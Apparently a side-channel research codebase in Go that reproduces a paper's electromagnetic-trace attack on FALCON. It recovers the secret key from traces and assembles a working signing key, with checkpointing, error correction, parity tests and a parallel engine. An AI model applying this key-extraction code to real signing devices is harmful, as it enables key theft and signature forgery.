	Count   int               `json:"count"`
	Config  Config            `json:"config"`
	Stage   string            `json:"stage"`
	Mags    []MagCheckpoint   `json:"mags,omitempty"`
	Results []ValueCheckpoint `json:"results,omitempty"`
}

// matches verifies the checkpoint belongs to this campaign and config.
func (c *Checkpoint) matches(n, count int, cfg Config) error {
	if c.Format != checkpointFormat {
		return fmt.Errorf("%w: sidecar format %d, this build writes %d", ErrCheckpointMismatch, c.Format, checkpointFormat)
	}
	if c.N != n || c.Count != count {
		return fmt.Errorf("%w: checkpoint is for a degree-%d campaign of %d traces, corpus has degree %d and %d traces",
			ErrCheckpointMismatch, c.N, c.Count, n, count)
	}
	// Workers is scheduling only (results are worker-count-independent),
	// so it never binds a checkpoint to a topology; Kernel likewise is pure
	// execution strategy (every kernel accumulates identical bits), so a
	// run may resume under a different kernel: normalize both sides.
	ckCfg, runCfg := c.Config, cfg
	ckCfg.Workers, runCfg.Workers = 0, 0
	ckCfg.Kernel, runCfg.Kernel = 0, 0
	if ckCfg != runCfg {
		return fmt.Errorf("%w: checkpoint was written with a different attack configuration", ErrCheckpointMismatch)
	}
	rank, err := stageRank(c.Stage)
	if err != nil {
		return err
	}
	if rank >= 1 && len(c.Mags) != n {
		return fmt.Errorf("%w: %d magnitude records for a degree-%d campaign", ErrCheckpointMismatch, len(c.Mags), n)
	}
	if rank >= 4 && len(c.Results) != n {
		return fmt.Errorf("%w: %d value records for a degree-%d campaign", ErrCheckpointMismatch, len(c.Results), n)
	}
	return nil
}

// CheckpointStore persists attack state between runs. Load returns
// (nil, nil) when no checkpoint exists yet. Save must be atomic enough
// that a crash mid-save leaves either the old or the new state readable.
type CheckpointStore interface {
	Load() (*Checkpoint, error)
	Save(*Checkpoint) error
}

// FileCheckpoint stores the checkpoint as a JSON sidecar file, written
// atomically (temp file + rename in the same directory).
type FileCheckpoint struct {
	Path string
}

// Load reads the sidecar; a missing file means a fresh run.
func (f *FileCheckpoint) Load() (*Checkpoint, error) {
	data, err := os.ReadFile(f.Path)
	if errors.Is(err, fs.ErrNotExist) {
		return nil, nil
	}
	if err != nil {
		return nil, fmt.Errorf("core: checkpoint: %w", err)
	}
	var ck Checkpoint
	if err := json.Unmarshal(data, &ck); err != nil {
		return nil, fmt.Errorf("%w: unparseable sidecar %s: %v", ErrCheckpointMismatch, f.Path, err)
	}
	return &ck, nil
}

// Save writes the sidecar atomically.
func (f *FileCheckpoint) Save(ck *Checkpoint) error {
	data, err := json.MarshalIndent(ck, "", "  ")
	if err != nil {
		return fmt.Errorf("core: checkpoint: %w", err)
	}
	dir := filepath.Dir(f.Path)
	tmp, err := os.CreateTemp(dir, filepath.Base(f.Path)+".tmp*")
	if err != nil {
		return fmt.Errorf("core: checkpoint: %w", err)
	}
	if _, err := tmp.Write(data); err != nil {
		tmp.Close()
		os.Remove(tmp.Name())
		return fmt.Errorf("core: checkpoint: %w", err)
	}
	if err := tmp.Sync(); err != nil {
		tmp.Close()
		os.Remove(tmp.Name())
		return fmt.Errorf("core: checkpoint: %w", err)
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("core: checkpoint: %w", err)
	}
	if err := os.Rename(tmp.Name(), f.Path); err != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("core: checkpoint: %w", err)
	}
	return nil
}

// Remove deletes the sidecar (call after a successful recovery so a later
// campaign at the same path starts fresh). Missing is not an error.
func (f *FileCheckpoint) Remove() error {
	err := os.Remove(f.Path)
	if errors.Is(err, fs.ErrNotExist) {
		return nil
	}
	return err
}

// checkpointMag converts working state to its serialized form.
func checkpointMag(m magnitude) MagCheckpoint {
	return MagCheckpoint{
		BiasedExp: m.biasedExp,
		ExpAlts:   m.expAlts,
		Mant:      m.mant,
		ExpCorr:   m.expCorr,
		PruneCorr: m.pruneCorr,
		Gap:       m.gap,
		Escalated: m.escalated,
	}
}

func restoreMag(c MagCheckpoint) magnitude {
	return magnitude{
		biasedExp: c.BiasedExp,
		expAlts:   c.ExpAlts,
		mant:      c.Mant,
		expCorr:   c.ExpCorr,
		pruneCorr: c.PruneCorr,
		gap:       c.Gap,
		escalated: c.Escalated,
	}
}

func checkpointValue(r ValueResult) ValueCheckpoint {
	return ValueCheckpoint{
		Value:           uint64(r.Value),
		SignCorr:        r.SignCorr,
		ExpCorr:         r.ExpCorr,
		ExpAlternatives: r.ExpAlternatives,
		PruneCorr:       r.PruneCorr,
		RunnerUpGap:     r.RunnerUpGap,
		Escalated:       r.Escalated,
		Significant:     r.Significant,
		TracesUsed:      r.TracesUsed,
	}
}

func restoreValue(c ValueCheckpoint) ValueResult {
	return ValueResult{
		Value:           fpr.FPR(c.Value),
		SignCorr:        c.SignCorr,
		ExpCorr:         c.ExpCorr,
		ExpAlternatives: c.ExpAlternatives,
		PruneCorr:       c.PruneCorr,
		RunnerUpGap:     c.RunnerUpGap,
		Escalated:       c.Escalated,
		Significant:     c.Significant,
		TracesUsed:      c.TracesUsed,
	}
}
