package core

import (
	"errors"
	"fmt"
	"sort"

	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/ntru"
	"falcondown/internal/ntt"
	"falcondown/internal/tracestore"
)

// RecoveryReport summarizes a full key extraction.
type RecoveryReport struct {
	Values      []ValueResult // per recovered FPR value (2 per coefficient)
	F           []int16       // recovered secret element f
	G           []int16       // derived g = h·f mod q
	MinPrune    float64       // weakest prune correlation across values
	Significant bool          // every component above the confidence threshold
}

// ErrImplausibleKey reports that the recovered FFT(f) does not invert to a
// plausible FALCON secret (the attack's built-in failure detection: a
// wrong coefficient makes g = h·f mod q large with overwhelming
// probability, so a corrupted recovery never silently yields a bad key).
var ErrImplausibleKey = errors.New("core: recovered key fails plausibility checks")

// gBound is the sanity bound on |g_i| for a correctly recovered key; true
// FALCON g coefficients are tens at most (σ_{f,g} ≈ 4 at n=512).
const gBound = 512

// RecoverKey runs the complete attack of the paper against an in-memory
// campaign. It is a thin wrapper over RecoverKeyFrom.
func RecoverKey(obs []emleak.Observation, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
	if len(obs) == 0 {
		return nil, nil, errNoTraces
	}
	return RecoverKeyFrom(tracestore.NewSliceSource(2*len(obs[0].CFFT), obs), pub, cfg)
}

// RecoverKeyFrom runs the complete attack of the paper against a streamed
// campaign: extract every coefficient of FFT(f) from the traces, invert
// the FFT to f, derive g = h·f mod q from the public key, re-solve the
// NTRU equation for F and G, and assemble a fully functional signing key.
// The source is swept a bounded number of times and never materialized,
// so disk corpora far larger than memory work unchanged.
//
// When the assembled f fails the plausibility check, the recovery does
// not give up immediately: exponent recovery has a documented tie-family
// ambiguity (see attackExponent), so the tied alternatives of the least
// confident values are substituted and re-checked — an error-correction
// pass that costs one n·log n consistency test per candidate.
func RecoverKeyFrom(src Source, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
	fFFT, values, err := AttackFFTfFrom(src, cfg)
	if err != nil {
		return nil, nil, err
	}
	f := fft.RoundToInt16(fFFT)
	n := len(f)
	if n != pub.Params.N {
		return nil, nil, fmt.Errorf("core: campaign degree %d does not match public key degree %d", n, pub.Params.N)
	}

	report := &RecoveryReport{Values: values, F: f, MinPrune: 2, Significant: true}
	for _, v := range values {
		if v.PruneCorr < report.MinPrune {
			report.MinPrune = v.PruneCorr
		}
		if !v.Significant {
			report.Significant = false
		}
	}

	// g = h·f mod q; a single wrong coefficient of f scrambles g into
	// uniformly large values, so the bound check below detects failure.
	g, gErr := deriveG(pub, f)
	if gErr != nil {
		// Error-correction pass: walk the exponent tie families of the
		// recovered values, preferring the ones closest to the winner.
		if fFix, gFix, ok := correctExponents(pub, fFFT, values); ok {
			f, g = fFix, gFix
			report.F = f
		} else {
			return nil, report, gErr
		}
	}
	report.G = g

	F, G, err := ntru.Solve(f, g)
	if err != nil {
		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
	}
	priv, err := falcon.NewPrivateKey(n, f, g, F, G)
	if err != nil {
		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
	}
	for i := range priv.H {
		if priv.H[i] != pub.H[i] {
			return nil, report, fmt.Errorf("%w: reconstructed public key mismatch", ErrImplausibleKey)
		}
	}
	return priv, report, nil
}

// deriveG computes g = h·f mod q and checks the plausibility bounds: a
// FALCON f must be invertible mod q (keygen guarantees it), and a single
// wrong coefficient of f scrambles g into uniformly large values, so the
// coefficient bound detects corrupted recoveries. The invertibility check
// also rejects degenerate near-zero candidates for which g = h·f would be
// trivially small.
func deriveG(pub *falcon.PublicKey, f []int16) ([]int16, error) {
	if !ntt.Invertible(ntt.FromSigned(f)) {
		return nil, fmt.Errorf("%w: recovered f not invertible mod q", ErrImplausibleKey)
	}
	gq := ntt.MulModQ(pub.H, ntt.FromSigned(f))
	g := make([]int16, len(f))
	for i, v := range gq {
		c := ntt.Center(v)
		if c < -gBound || c > gBound {
			return nil, fmt.Errorf("%w: g[%d] = %d", ErrImplausibleKey, i, c)
		}
		g[i] = int16(c)
	}
	// The keygen acceptance test: a consistent-but-corrupted (f, g) — for
	// example one whose FFT is nearly zero in a bin where the public key
	// also happens to be small — passes the coefficient bounds yet yields
	// a trapdoor of unusable Gram-Schmidt quality. Rejecting it here sends
	// the error-correction pass looking for the right candidate instead of
	// assembling a key the sampler cannot use.
	if ntru.GSNorm(f, g) > 1.17*1.17*float64(falcon.Q) {
		return nil, fmt.Errorf("%w: Gram-Schmidt norm above keygen bound", ErrImplausibleKey)
	}
	return g, nil
}

// correctExponents searches the exponent tie families of the recovered
// values for a substitution that makes the key plausible. Single-value
// substitutions are tried first (the overwhelmingly common failure is one
// mis-tie-broken exponent), ordered by ascending exponent confidence.
func correctExponents(pub *falcon.PublicKey, fFFT []fft.Cplx, values []ValueResult) ([]int16, []int16, bool) {
	type option struct {
		idx  int // value index (2k for Re, 2k+1 for Im)
		alts []int
		corr float64
	}
	var opts []option
	for i, v := range values {
		if len(v.ExpAlternatives) > 0 {
			opts = append(opts, option{idx: i, alts: v.ExpAlternatives, corr: v.ExpCorr})
		}
	}
	sort.Slice(opts, func(a, b int) bool { return opts[a].corr < opts[b].corr })
	if len(opts) > 16 {
		opts = opts[:16] // bound the search; deeper failures are reported
	}
	trial := make([]fft.Cplx, len(fFFT))
	for _, o := range opts {
		k, isIm := o.idx/2, o.idx%2 == 1
		orig := fFFT[k]
		for _, e := range o.alts {
			copy(trial, fFFT)
			z := orig
			if isIm {
				z.Im = withExponent(z.Im, e)
			} else {
				z.Re = withExponent(z.Re, e)
			}
			trial[k] = z
			f := fft.RoundToInt16(trial)
			if g, err := deriveG(pub, f); err == nil {
				return f, g, true
			}
		}
	}
	return nil, nil, false
}

// withExponent replaces the biased exponent field of v.
func withExponent(v fpr.FPR, biasedExp int) fpr.FPR {
	const expMask = uint64(0x7FF) << 52
	return fpr.FPR(uint64(v)&^expMask | uint64(biasedExp)<<52)
}
