package core

import (
	"errors"
	"fmt"
	"sort"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/falcon"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/ntru"
	"falcondown/internal/ntt"
	"falcondown/internal/tracestore"
)

// ValueFailure names one recovered value that the attack could not
// establish with confidence, and why — the per-value diagnosis of a
// failed recovery (RecoveryReport.Failed).
type ValueFailure struct {
	Index  int    // value index: 2·coeff for Re, 2·coeff+1 for Im
	Coeff  int    // FFT coefficient the value belongs to
	Part   Part   // which half of the complex coefficient
	Reason string // human-readable diagnosis
}

func (f ValueFailure) String() string {
	p := "Re"
	if f.Part == PartIm {
		p = "Im"
	}
	return fmt.Sprintf("value %d (coeff %d %s): %s", f.Index, f.Coeff, p, f.Reason)
}

// RecoveryReport summarizes a full key extraction. On failure it is still
// returned (partial) so the caller can see how far the attack got and
// which values are to blame.
type RecoveryReport struct {
	Values      []ValueResult // per recovered FPR value (2 per coefficient)
	F           []int16       // recovered secret element f
	G           []int16       // derived g = h·f mod q
	MinPrune    float64       // weakest prune correlation across values
	Significant bool          // every component above the confidence threshold

	// Corrected lists the value indices whose exponent the
	// error-correction pass substituted from its tie family to make the
	// key plausible (empty on a first-try success).
	Corrected []int
	// CorrectionCapped reports that the error-correction search was
	// truncated at its candidate cap — more tie families existed than it
	// was willing to try, so a failed correction may be a search-budget
	// artifact rather than proof the key is unrecoverable.
	CorrectionCapped bool
	// Failed diagnoses the values that prevented recovery; set only when
	// the extraction failed. Empty Failed with a non-nil error means the
	// statistics look clean and the corpus itself is the suspect.
	Failed []ValueFailure
}

// ErrImplausibleKey reports that the recovered FFT(f) does not invert to a
// plausible FALCON secret (the attack's built-in failure detection: a
// wrong coefficient makes g = h·f mod q large with overwhelming
// probability, so a corrupted recovery never silently yields a bad key).
var ErrImplausibleKey = errors.New("core: recovered key fails plausibility checks")

// gBound is the sanity bound on |g_i| for a correctly recovered key; true
// FALCON g coefficients are tens at most (σ_{f,g} ≈ 4 at n=512).
const gBound = 512

// correctionCap bounds how many tie families the error-correction pass
// walks; when it truncates the search the report says so
// (RecoveryReport.CorrectionCapped).
const correctionCap = 16

// RecoverKey runs the complete attack of the paper against an in-memory
// campaign. It is a thin wrapper over RecoverKeyFrom.
func RecoverKey(obs []emleak.Observation, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
	if len(obs) == 0 {
		return nil, nil, errNoTraces
	}
	return RecoverKeyFrom(tracestore.NewSliceSource(2*len(obs[0].CFFT), obs), pub, cfg)
}

// RecoverKeyFrom runs the complete attack of the paper against a streamed
// campaign: extract every coefficient of FFT(f) from the traces, invert
// the FFT to f, derive g = h·f mod q from the public key, re-solve the
// NTRU equation for F and G, and assemble a fully functional signing key.
// The source is swept a bounded number of times and never materialized,
// so disk corpora far larger than memory work unchanged.
//
// When the assembled f fails the plausibility check, the recovery does
// not give up immediately: exponent recovery has a documented tie-family
// ambiguity (see attackExponent), so the tied alternatives of the least
// confident values are substituted and re-checked — an error-correction
// pass that costs one n·log n consistency test per candidate.
//
// On failure the partial report is still returned, with Failed naming the
// values that could not be established and why.
func RecoverKeyFrom(src Source, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
	return RecoverKeyResumable(src, pub, cfg, nil)
}

// RecoverKeyResumable is RecoverKeyFrom with checkpointed recovery: the
// attack phases persist their state through store (see
// AttackFFTfResumable), so a killed extraction rerun against the same
// campaign resumes from the last completed phase. The recovery tail
// (FFT inversion, NTRU solving, verification) is cheap relative to one
// corpus sweep and is simply recomputed. A nil store disables
// checkpointing.
func RecoverKeyResumable(src Source, pub *falcon.PublicKey, cfg Config, store CheckpointStore) (*falcon.PrivateKey, *RecoveryReport, error) {
	fFFT, values, err := AttackFFTfResumable(src, cfg, store)
	if err != nil {
		return nil, nil, err
	}
	return finishRecovery(fFFT, values, pub, cfg)
}

// RecoverKeyDistributed is RecoverKeyResumable with every campaign pass
// executed through dist (see Distributor): the coordinator keeps the
// checkpoint sidecar and the recovery tail, workers carry the sweeps.
// src must be the raw corpus as workers can open it themselves — the
// derived masking and robust preprocessing are described over the wire.
// The result is byte-identical to the single-machine attack: the fold
// order is pinned by shard index, not by the fleet.
func RecoverKeyDistributed(src Source, pub *falcon.PublicKey, cfg Config, store CheckpointStore, dist Distributor) (*falcon.PrivateKey, *RecoveryReport, error) {
	return RecoverKeyResumable(WithDistributor(src, dist), pub, cfg, store)
}

// finishRecovery turns a recovered FFT(f) vector into a working signing
// key: invert the FFT, derive g from the public key, error-correct
// exponent ties if needed, re-solve the NTRU equation and verify the
// reconstructed public key. On failure the partial report carries the
// per-value diagnosis.
func finishRecovery(fFFT []fft.Cplx, values []ValueResult, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
	cfg = cfg.withDefaults()
	f := fft.RoundToInt16(fFFT)
	n := len(f)
	if n != pub.Params.N {
		return nil, nil, fmt.Errorf("core: campaign degree %d does not match public key degree %d", n, pub.Params.N)
	}

	report := &RecoveryReport{Values: values, F: f, MinPrune: 2, Significant: true}
	for _, v := range values {
		if v.PruneCorr < report.MinPrune {
			report.MinPrune = v.PruneCorr
		}
		if !v.Significant {
			report.Significant = false
		}
	}

	// g = h·f mod q; a single wrong coefficient of f scrambles g into
	// uniformly large values, so the bound check below detects failure.
	g, gErr := deriveG(pub, f)
	if gErr != nil {
		// Error-correction pass: walk the exponent tie families of the
		// recovered values, preferring the ones closest to the winner.
		fix, capped := correctExponents(pub, fFFT, values)
		report.CorrectionCapped = capped
		if fix == nil {
			report.Failed = classifyValueFailures(values, cfg)
			return nil, report, gErr
		}
		f, g = fix.f, fix.g
		report.F = f
		report.Corrected = fix.corrected
	}
	report.G = g

	F, G, err := ntru.Solve(f, g)
	if err != nil {
		report.Failed = classifyValueFailures(values, cfg)
		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
	}
	priv, err := falcon.NewPrivateKey(n, f, g, F, G)
	if err != nil {
		report.Failed = classifyValueFailures(values, cfg)
		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
	}
	for i := range priv.H {
		if priv.H[i] != pub.H[i] {
			report.Failed = classifyValueFailures(values, cfg)
			return nil, report, fmt.Errorf("%w: reconstructed public key mismatch", ErrImplausibleKey)
		}
	}
	return priv, report, nil
}

// classifyValueFailures diagnoses which values are plausibly responsible
// for a failed recovery, and why: insignificant phase statistics first
// (the value is simply not established at the configured confidence),
// then prune correlations far below the campaign median (the signature of
// a dropped extend prefix), then unresolved exponent tie families (the
// value looks clean but its exponent may be mis-tie-broken). Values with
// no symptom are omitted — an empty list with a failed recovery points at
// the corpus, not the statistics.
func classifyValueFailures(values []ValueResult, cfg Config) []ValueFailure {
	if len(values) == 0 {
		return nil
	}
	thr := cpa.Threshold(cfg.Confidence, values[0].TracesUsed)
	med := medianPrune(values)
	var failed []ValueFailure
	for i, v := range values {
		coeff, part := i/2, Part(i%2)
		switch {
		case v.SignCorr < thr:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("sign correlation %.3f below the %.2f%% confidence threshold %.3f", v.SignCorr, 100*cfg.Confidence, thr)})
		case v.ExpCorr < thr:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("exponent correlation %.3f below the %.2f%% confidence threshold %.3f", v.ExpCorr, 100*cfg.Confidence, thr)})
		case v.PruneCorr < thr:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("prune correlation %.3f below the %.2f%% confidence threshold %.3f", v.PruneCorr, 100*cfg.Confidence, thr)})
		case v.PruneCorr < 0.8*med:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("prune correlation %.3f far below the campaign median %.3f (extend phase likely dropped the true prefix)", v.PruneCorr, med)})
		case len(v.ExpAlternatives) > 0:
			failed = append(failed, ValueFailure{i, coeff, part,
				fmt.Sprintf("exponent tie family unresolved (%d statistically tied alternatives)", len(v.ExpAlternatives))})
		}
	}
	return failed
}

// deriveG computes g = h·f mod q and checks the plausibility bounds: a
// FALCON f must be invertible mod q (keygen guarantees it), and a single
// wrong coefficient of f scrambles g into uniformly large values, so the
// coefficient bound detects corrupted recoveries. The invertibility check
// also rejects degenerate near-zero candidates for which g = h·f would be
// trivially small.
func deriveG(pub *falcon.PublicKey, f []int16) ([]int16, error) {
	if !ntt.Invertible(ntt.FromSigned(f)) {
		return nil, fmt.Errorf("%w: recovered f not invertible mod q", ErrImplausibleKey)
	}
	gq := ntt.MulModQ(pub.H, ntt.FromSigned(f))
	g := make([]int16, len(f))
	for i, v := range gq {
		c := ntt.Center(v)
		if c < -gBound || c > gBound {
			return nil, fmt.Errorf("%w: g[%d] = %d", ErrImplausibleKey, i, c)
		}
		g[i] = int16(c)
	}
	// The keygen acceptance test: a consistent-but-corrupted (f, g) — for
	// example one whose FFT is nearly zero in a bin where the public key
	// also happens to be small — passes the coefficient bounds yet yields
	// a trapdoor of unusable Gram-Schmidt quality. Rejecting it here sends
	// the error-correction pass looking for the right candidate instead of
	// assembling a key the sampler cannot use.
	if ntru.GSNorm(f, g) > 1.17*1.17*float64(falcon.Q) {
		return nil, fmt.Errorf("%w: Gram-Schmidt norm above keygen bound", ErrImplausibleKey)
	}
	return g, nil
}

// expCorrection is a successful exponent-substitution repair.
type expCorrection struct {
	f, g      []int16
	corrected []int // value indices whose exponent was substituted
}

// correctExponents searches the exponent tie families of the recovered
// values for a substitution that makes the key plausible. Single-value
// substitutions are tried first (the overwhelmingly common failure is one
// mis-tie-broken exponent), ordered by ascending exponent confidence. The
// search walks at most correctionCap tie families; the returned capped
// flag reports whether families were left untried, so a failed correction
// is distinguishable from an exhausted one.
func correctExponents(pub *falcon.PublicKey, fFFT []fft.Cplx, values []ValueResult) (*expCorrection, bool) {
	type option struct {
		idx  int // value index (2k for Re, 2k+1 for Im)
		alts []int
		corr float64
	}
	var opts []option
	for i, v := range values {
		if len(v.ExpAlternatives) > 0 {
			opts = append(opts, option{idx: i, alts: v.ExpAlternatives, corr: v.ExpCorr})
		}
	}
	sort.Slice(opts, func(a, b int) bool { return opts[a].corr < opts[b].corr })
	capped := len(opts) > correctionCap
	if capped {
		opts = opts[:correctionCap] // bound the search; the cap is reported
	}
	trial := make([]fft.Cplx, len(fFFT))
	for _, o := range opts {
		k, isIm := o.idx/2, o.idx%2 == 1
		orig := fFFT[k]
		for _, e := range o.alts {
			copy(trial, fFFT)
			z := orig
			if isIm {
				z.Im = withExponent(z.Im, e)
			} else {
				z.Re = withExponent(z.Re, e)
			}
			trial[k] = z
			f := fft.RoundToInt16(trial)
			if g, err := deriveG(pub, f); err == nil {
				return &expCorrection{f: f, g: g, corrected: []int{o.idx}}, capped
			}
		}
	}
	return nil, capped
}

// withExponent replaces the biased exponent field of v.
func withExponent(v fpr.FPR, biasedExp int) fpr.FPR {
	const expMask = uint64(0x7FF) << 52
	return fpr.FPR(uint64(v)&^expMask | uint64(biasedExp)<<52)
}
