package core

import (
	"path/filepath"
	"testing"

	"falcondown/internal/tracestore"
)

func TestStreamedAttackMatchesInMemory(t *testing.T) {
	// The streamed out-of-core attack must be bit-identical to the
	// in-memory path: both drive the same accumulator jobs in the same
	// observation order.
	n, traces := 16, 1500
	if testing.Short() {
		n, traces = 8, 400 // race-mode budget; parity holds at any size
	}
	dev, _, pub := deviceFor(t, n, 2.0, 14)
	obs := collect(t, dev, traces, 15)

	dir := t.TempDir()
	path := filepath.Join(dir, "traces.fdt2")
	w, err := tracestore.NewWriter(path, n, tracestore.Options{ShardObs: (traces + 2) / 3})
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range obs {
		if err := w.Append(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	corpus, err := tracestore.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	if corpus.Shards() != 3 || corpus.Count() != traces {
		t.Fatalf("corpus shards=%d count=%d", corpus.Shards(), corpus.Count())
	}

	memFFT, memVals, err := AttackFFTf(obs, Config{})
	if err != nil {
		t.Fatal(err)
	}
	diskFFT, diskVals, err := AttackFFTfFrom(corpus, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if len(memFFT) != len(diskFFT) || len(memVals) != len(diskVals) {
		t.Fatalf("shape mismatch: %d/%d values vs %d/%d",
			len(memFFT), len(memVals), len(diskFFT), len(diskVals))
	}
	for k := range memFFT {
		if memFFT[k] != diskFFT[k] {
			t.Fatalf("coefficient %d differs between streamed and in-memory attack", k)
		}
	}
	for v := range memVals {
		m, d := memVals[v], diskVals[v]
		if m.Value != d.Value || m.SignCorr != d.SignCorr || m.ExpCorr != d.ExpCorr ||
			m.PruneCorr != d.PruneCorr || m.RunnerUpGap != d.RunnerUpGap ||
			m.Escalated != d.Escalated || m.Significant != d.Significant ||
			m.TracesUsed != d.TracesUsed {
			t.Fatalf("value %d report differs: mem %+v disk %+v", v, m, d)
		}
	}

	if testing.Short() {
		return // the full-pipeline check below needs the larger campaign
	}

	// And the full pipeline: same forged-capable key from disk.
	memPriv, memRep, err := RecoverKey(obs, pub, Config{})
	if err != nil {
		t.Fatal(err)
	}
	diskPriv, diskRep, err := RecoverKeyFrom(corpus, pub, Config{})
	if err != nil {
		t.Fatal(err)
	}
	for i := range memPriv.Fs {
		if memPriv.Fs[i] != diskPriv.Fs[i] || memPriv.Gs[i] != diskPriv.Gs[i] {
			t.Fatalf("recovered key differs at %d", i)
		}
	}
	if memRep.MinPrune != diskRep.MinPrune || memRep.Significant != diskRep.Significant {
		t.Fatalf("reports differ: mem %+v disk %+v", memRep, diskRep)
	}
}

func TestStreamedAttackMatchesInMemoryFalcon64(t *testing.T) {
	// Parity at FALCON-64: the streamed corpus attack must reproduce the
	// in-memory attack value-for-value (including any errors the
	// downstream recovery would report). A reduced trace budget keeps
	// this a structural check, not a success check.
	if testing.Short() {
		t.Skip("covered at n=8 by TestStreamedAttackMatchesInMemory in short mode")
	}
	dev, _, _ := deviceFor(t, 64, 2.0, 21)
	obs := collect(t, dev, 400, 22)

	path := filepath.Join(t.TempDir(), "traces.fdt2")
	w, err := tracestore.NewWriter(path, 64, tracestore.Options{ShardObs: 150})
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range obs {
		if err := w.Append(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	corpus, err := tracestore.Open(path)
	if err != nil {
		t.Fatal(err)
	}

	memFFT, memVals, err := AttackFFTf(obs, Config{})
	if err != nil {
		t.Fatal(err)
	}
	diskFFT, diskVals, err := AttackFFTfFrom(corpus, Config{})
	if err != nil {
		t.Fatal(err)
	}
	for k := range memFFT {
		if memFFT[k] != diskFFT[k] {
			t.Fatalf("coefficient %d differs between streamed and in-memory attack", k)
		}
	}
	for v := range memVals {
		m, d := memVals[v], diskVals[v]
		if m.Value != d.Value || m.SignCorr != d.SignCorr || m.ExpCorr != d.ExpCorr ||
			m.PruneCorr != d.PruneCorr || m.RunnerUpGap != d.RunnerUpGap ||
			m.Escalated != d.Escalated || m.Significant != d.Significant {
			t.Fatalf("value %d report differs: mem %+v disk %+v", v, m, d)
		}
		if len(m.ExpAlternatives) != len(d.ExpAlternatives) {
			t.Fatalf("value %d alternatives differ", v)
		}
		for i := range m.ExpAlternatives {
			if m.ExpAlternatives[i] != d.ExpAlternatives[i] {
				t.Fatalf("value %d alternatives differ", v)
			}
		}
	}
}

func TestStreamedAttackNoTraces(t *testing.T) {
	if _, _, err := AttackFFTfFrom(nil, Config{}); err == nil {
		t.Fatal("nil source accepted")
	}
	if _, _, err := AttackFFTfFrom(tracestore.NewSliceSource(16, nil), Config{}); err == nil {
		t.Fatal("empty source accepted")
	}
}
