package core

// Deterministic parallel pass engine. The attack's corpus passes dominate
// its runtime, and the per-observation work (hypothesis×sample Pearson
// updates) is embarrassingly parallel — but floating-point addition is not
// associative, so a naive "merge partials in completion order" scheme
// returns different bits on every run and across worker counts, which
// would break the repo's bit-for-bit contracts (slice vs. streamed paths,
// checkpointed vs. fresh runs, the recovery harness's regression fixtures).
//
// The engine therefore pins a canonical reduction that is independent of
// the worker count:
//
//   - the corpus is cut into fixed shards of shardObs consecutive
//     observations (a property of the corpus, never of the scheduler);
//   - each shard is accumulated sequentially, in corpus order, into a
//     fresh zero-state clone of every job;
//   - shard partials are folded into the main jobs in strict shard-index
//     order (a left fold: ((J ⊕ P₀) ⊕ P₁) ⊕ P₂ …).
//
// Workers race to *produce* shard partials, but the fold consumes them in
// shard order, so the sequence of floating-point operations hitting the
// main accumulators is identical for one worker, eight workers, or the
// single-threaded serialPass — and identical to feedSlice on the same
// observations. Determinism comes from the pinned order, not from any
// associativity assumption. The differential suite (parallel_test.go)
// proves the equivalence end to end.

import (
	"errors"
	"fmt"
	"io"
	"runtime"
	"sync"
	"time"

	"falcondown/internal/emleak"
	"falcondown/internal/obs"
	"falcondown/internal/tracestore"
)

// shardObs is the canonical shard size: observations [k·64, (k+1)·64)
// form shard k. It is a constant of the reduction (baked into every
// result's bit pattern), NOT a tuning knob — changing it changes the
// round-off pattern of every correlation in the repo.
const shardObs = 64

// mergeJob is a passJob whose accumulation distributes over corpus
// shards: clone() yields a zero-state accumulator sharing the job's
// read-only configuration, and merge() folds a clone's sums back in.
// merge must be a plain field-wise combination so that folding shard
// partials in shard order reproduces the serial pass bit-for-bit.
type mergeJob interface {
	passJob
	clone() mergeJob
	merge(mergeJob)
}

// MaxWorkers is the largest Config.Workers value the engine accepts from
// user input. Results are bit-identical at any worker count, so a huge
// value is never wrong — but each worker pins shard-sized buffers and a
// tile queue slot, so an absurd count (a typo like -workers 1000000) only
// wastes memory. ValidateWorkers rejects it up front instead of letting
// the scheduler silently oversubscribe.
const MaxWorkers = 1024

// ValidateWorkers checks a user-supplied worker count: 0 means one worker
// per available CPU, negatives and values above MaxWorkers are errors.
// CLI flags and campaign specs both funnel through this so a bad value is
// a clear rejection, not a silent fallback.
func ValidateWorkers(w int) (int, error) {
	if w < 0 {
		return 0, fmt.Errorf("core: workers must be >= 0 (0 = one per CPU), got %d", w)
	}
	if w > MaxWorkers {
		return 0, fmt.Errorf("core: workers %d exceeds the %d cap (results are identical at any count; more workers only waste memory)", w, MaxWorkers)
	}
	return w, nil
}

// effectiveWorkers resolves a Config.Workers value: zero or negative
// means one worker per available CPU.
func effectiveWorkers(w int) int {
	if w <= 0 {
		return runtime.GOMAXPROCS(0)
	}
	return w
}

// batchObserver is a passJob that can consume a whole shard at once —
// the hook the blocked kernel uses to run its tiled update over a batch
